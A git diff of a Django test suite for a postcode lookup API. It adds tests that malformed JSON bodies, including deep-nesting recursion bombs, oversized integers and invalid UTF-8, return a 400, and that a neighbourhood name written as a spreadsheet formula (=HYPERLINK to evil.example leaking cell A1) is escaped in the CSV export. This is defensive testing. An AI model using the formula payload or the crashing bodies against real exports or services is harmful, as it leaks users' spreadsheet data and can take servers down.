@@ -8,7 +8,7 @@ from django.core.cache import cache
 from django.test import Client
 
 from neighbourhoods.answers import Outcome
-from neighbourhoods.models import Postcode
+from neighbourhoods.models import Neighbourhood, Postcode
 from neighbourhoods.selectors import lookup_point, lookup_postcode
 from neighbourhoods.services.publishing import boundaries_publish
 
@@ -174,6 +174,30 @@ def test_bulk_refuses_a_limit_or_a_malformed_body_with_a_clear_400(client, body,
     assert says in response.json()["error"]["message"]
 
 
+@pytest.mark.parametrize(
+    "body",
+    [
+        b'{"postcodes": ' + b"[" * 1_000 + b"]" * 1_000 + b"}",  # 2 kB, RecursionError
+        b"[" * 100_000 + b"]" * 100_000,
+        b'{"a": ' * 1_000 + b"1" + b"}" * 1_000,
+        b'{"postcodes": ' + b'{"a": ' * 1_000 + b"1" + b"}" * 1_001,
+        b'{"postcodes": [' + b"9" * 5_000 + b"]}",  # past Python's limit on an int's digits
+        b'{"postcodes": [1e999, -1e999]}',
+        b'{"postcodes": [NaN, Infinity]}',
+        b'{"postcodes": ["E8 1DY\xff\xfe"]}',  # not UTF-8
+        b"\xef\xbb\xbf" + b'{"postcodes": ["E8 1DY"]',  # a byte-order mark, cut short
+        b'{"postcodes": ["E8 1DY"]} trailing',
+        b"[]",
+        b"null",
+        b'"postcodes"',
+    ],
+)
+def test_any_body_that_is_not_the_bulk_json_is_a_400_never_a_500(client, body):
+    response = client.post("/api/v1/postcodes", body, content_type="application/json")
+    assert response.status_code == 400
+    assert response.json()["error"]["code"] == "malformed_body"
+
+
 @pytest.mark.realdata
 def test_the_postcode_csv_has_every_live_postcode_in_the_area(client):
     response = client.get("/api/v1/postcodes.csv")
@@ -194,6 +218,17 @@ def test_the_postcode_csv_has_every_live_postcode_in_the_area(client):
     assert row["local_authority"] == "Hackney"
     assert "E1 0AA" not in {r["postcode"] for r in rows}  # Tower Hamlets
     assert "E8 9ZY" not in {r["postcode"] for r in rows}  # terminated
+
+
+def test_a_name_written_as_a_formula_is_text_in_the_postcode_csv(borough, client):
+    """An Editor's neighbourhood name beginning with = must not run in a spreadsheet."""
+    evil = '=HYPERLINK("https://evil.example/?x="&A1,"Click")'
+    Neighbourhood.objects.filter(pk=borough.london_fields.pk).update(name=evil)
+    text = client.get("/api/v1/postcodes.csv").content.decode()
+    rows = list(csv.DictReader(line for line in io.StringIO(text) if not line.startswith("#")))
+    names = {row["neighbourhood"] for row in rows}
+    assert "'" + evil in names
+    assert not any(str(value).startswith("=") for row in rows for value in row.values())
 
 
 def test_the_downloads_are_cached_until_the_next_publish(client, django_assert_num_queries):
